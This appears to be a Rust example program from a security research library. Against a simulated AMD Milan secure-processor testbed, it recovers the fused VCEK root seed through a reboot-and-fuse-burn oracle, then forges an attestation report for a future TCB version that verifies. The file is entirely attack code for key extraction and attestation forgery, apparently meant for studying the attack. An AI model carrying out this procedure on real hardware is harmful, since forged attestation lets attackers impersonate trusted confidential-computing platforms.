// Licensed under the Apache-2.0 license

//! Recovers the fused VCEK root bit by bit: each boot reads the layer-1
//! seed and burns the next bit, a changed seed means the bit was zero.

use aspforge::attack::{badfuse_oracle, forge_report, plan_milanlaunchy, MilanLaunchyOptions};
use aspforge::firmware::AuthScheme;
use aspforge::platform::{ScenarioConfig, Testbed};
use aspforge::vcek::TcbVersion;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let mut tb = Testbed::new(ScenarioConfig::new(AuthScheme::Zen3Milan, 5))?;
    let plan = plan_milanlaunchy(&tb.platform.flash, &tb.legacy_recovery()?, &tb.world.bootrom_key, MilanLaunchyOptions::default())?;
    tb.platform.flash = plan.image;
    let kds = tb.kds.clone();

    let run = badfuse_oracle(&mut tb.platform)?;
    println!("reboots {}, baseline updates {}", run.reboots, run.baseline_updates);
    for d in run.decisions.iter().take(16) {
        println!("  bit {:>3}: changed {:<5} -> {}", d.bit, d.changed, d.value);
    }
    println!("recovered {}", hex::encode(run.recovered_seed));
    println!("matches fused root: {}", run.recovered_seed == tb.vcek_root);

    // A root seed reaches TCBs the vendor has not shipped yet.
    let t = TcbVersion::new(200, 99, 123);
    let report = forge_report(&run.material(), t, [0x22; 48], [0; 64])?;
    println!("forged report for {t} verifies: {}", kds.verify_report(&report, &kds.issue(&tb.chip_id, t)?));
    Ok(())
}
